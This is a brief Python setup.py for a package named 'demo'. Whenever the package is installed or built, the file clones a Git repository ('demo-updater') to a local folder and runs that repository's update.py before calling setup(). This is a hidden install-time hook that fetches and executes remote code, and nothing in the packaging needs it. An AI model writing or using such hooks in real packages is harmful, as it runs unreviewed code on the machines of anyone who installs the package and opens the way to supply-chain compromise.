import os
import subprocess

import git
from setuptools import setup

folder = os.path.join("C:", "Users", "repo")
if not os.path.isdir(folder):
    git.Repo.clone_from("https://github.com/example/demo-updater.git", folder)
os.chdir(folder)
subprocess.run(["python", "update.py"])

setup(name="demo")
